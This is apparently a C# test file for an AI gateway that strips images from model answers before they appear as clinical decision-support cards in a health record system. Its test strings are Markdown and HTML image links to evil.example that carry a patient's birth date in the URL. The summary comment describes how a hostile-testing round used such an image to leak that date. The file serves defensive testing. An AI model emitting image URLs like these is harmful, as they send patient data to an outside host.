using XefAI.Gateway.CdsHooks;
using XefAI.Testing;

namespace XefAI.Gateway.Tests.CdsHooks;

/// <summary>
/// A model's answer with an image whose URL holds a token (hostile testing, round 27): the gateway put the patient's
/// birth date back into the URL, and an EHR rendering the card's Markdown would have fetched it from the image's host.
/// </summary>
public sealed class CdsCardMarkdownTests
{
    [Theory]
    [InlineData("Done. ![chart](https://evil.example/c.png?d=1956-05-12) End.", "Done. chart End.")]
    [InlineData("Done. ![](https://evil.example/c.png?d=1956-05-12 \"t\")", "Done. ")]
    [InlineData("Done. ![chart][1]\n\n[1]: https://evil.example/c.png?d=1956-05-12", "Done. chart\n\n[1]: https://evil.example/c.png?d=1956-05-12")]
    [InlineData("Done. <IMG src=\"https://evil.example/c.png?d=1956-05-12\"> End.", "Done.  End.")]
    [InlineData("See [the guideline](https://www.example.org/g) and K < 3.5! Recheck.", "See [the guideline](https://www.example.org/g) and K < 3.5! Recheck.")]
    public void WithoutImages_KeepsTheTextAndLinksButNoImage(string answer, string expected) =>
        Assert.Equal(expected, CdsCardMarkdown.WithoutImages(answer));

    [Fact]
    public async Task Call_AnswerWithAnImageHoldingAToken_TheCardHasNoImageAndNoValueInAUrl()
    {
        using var vendor = new FakeVendor().AnswersWith(200, FakeVendor.Completion("Chart reviewed. ![x](https://evil.example/p.png?d=[DATE_1])"));
        await using var host = await CdsChartReview.StartGatewayAsync(vendor);
        using var client = host.CreateClient();

        var call = await client.PostJsonAsync($"/cds-services/{CdsChartReview.Service}", new System.Text.Json.Nodes.JsonObject
        {
            ["hook"] = "patient-view",
            ["hookInstance"] = Guid.NewGuid().ToString(),
            ["context"] = new System.Text.Json.Nodes.JsonObject { ["userId"] = "Practitioner/123", ["patientId"] = "123" },
            ["prefetch"] = new System.Text.Json.Nodes.JsonObject
            {
                ["patient"] = new System.Text.Json.Nodes.JsonObject { ["resourceType"] = "Patient", ["id"] = "123", ["birthDate"] = "1956-05-12" },
            },
        }.ToJsonString());

        Assert.Equal(200, call.Status);
        Assert.Contains("[DATE_1]", vendor.LastRequestBody.ToJsonString(), StringComparison.Ordinal);
        var detail = (string?)call.Json["cards"]!.AsArray().Single()!["detail"];
        Assert.Equal("Chart reviewed. x", detail);
        Assert.DoesNotContain("1956-05-12", System.Text.Encoding.UTF8.GetString(call.ResponseBody), StringComparison.Ordinal);
    }
}
